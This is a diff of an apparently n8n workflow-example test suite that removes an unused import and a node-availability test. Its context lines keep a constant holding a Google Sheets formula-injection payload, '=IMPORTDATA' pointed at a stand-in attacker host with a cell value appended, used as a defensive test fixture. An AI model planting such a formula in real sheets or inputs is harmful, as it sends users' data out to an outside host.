@@ -2,15 +2,13 @@ import assert from 'node:assert/strict';
 import { randomUUID } from 'node:crypto';
 import { beforeEach, describe, test } from 'node:test';
 
-import type { INode } from 'n8n-workflow';
-
 import type { Emulator, LedgerEntry } from '../../../emulator/emulator.mts';
 import { SIMPLIFIED_FIELDS } from '../../harness/operations.mts';
 import { pictureTexts } from '../../harness/pictured.mts';
 import { executeByWebhook, executeWorkflow } from '../harness/executions.mts';
 import { retryExecution, succeeded } from '../harness/executions.mts';
 import type { Execution } from '../harness/executions.mts';
-import { changed, example, exampleNames } from '../harness/examples.mts';
+import { changed, example } from '../harness/examples.mts';
 import { webhook } from '../harness/nodes.mts';
 import { withAccounts } from '../harness/outside.mts';
 import type { RegularMode } from '../harness/regularMode.mts';
@@ -19,11 +17,6 @@ import { activate, activateOn2, buyingAnew } from '../harness/workflows.mts';
 import { saveWorkflow } from '../harness/workflows.mts';
 import type { SavedWorkflow, Workflow } from '../harness/workflows.mts';
 
-/** Their nodes are not in n8n 1: see suites/examplesOn2.mts. */
-const NEED_N8N_2 = [
-	...['agent-that-asks-first', 'costs-of-the-week-to-slack', 'new-posts-to-a-data-table'],
-];
-
 /** A title that Google Sheets runs as a formula if it counts as typed. */
 const FORMULA = '=IMPORTDATA("https://attacker.example/?"&A1)';
 
@@ -31,11 +24,6 @@ const FORMULA = '=IMPORTDATA("https://attacker.example/?"&A1)';
 export const SITE = 'https://photos.example.com/p/';
 
 const VIDEO_ROW = ['keyword', 'id', 'title', 'author', 'createdAt', 'likes', 'image'];
-
-interface NodeType {
-	name: string;
-	version: number | number[];
-}
 
 function triggerOf(workflow: Workflow): string {
 	const trigger = workflow.nodes.find(({ type }) => /\.(manual|schedule)Trigger$/.test(type));
@@ -76,17 +64,6 @@ export function testExamples(world: RegularMode): void {
 		beforeEach(() => {
 			world.emulator.reset();
 			world.outside.forget();
-		});
-
-		test('all have nodes that this n8n has', async () => {
-			const response = await world.rest.raw('GET', '/types/nodes.json');
-			const types = (await response.json()) as NodeType[];
-			const isThere = ({ type, typeVersion }: INode) =>
-				types.some(({ name, version }) => name === type && [version].flat().includes(typeVersion));
-			const isTooOld = (name: string) => world.version.major === 1 && NEED_N8N_2.includes(name);
-			const names = exampleNames().filter((name) => !isTooOld(name));
-			const missing = names.flatMap((name) => example(name).nodes.filter((node) => !isThere(node)));
-			assert.deepEqual(missing, []);
 		});
 
 		test('keyword-image-search', async () => {
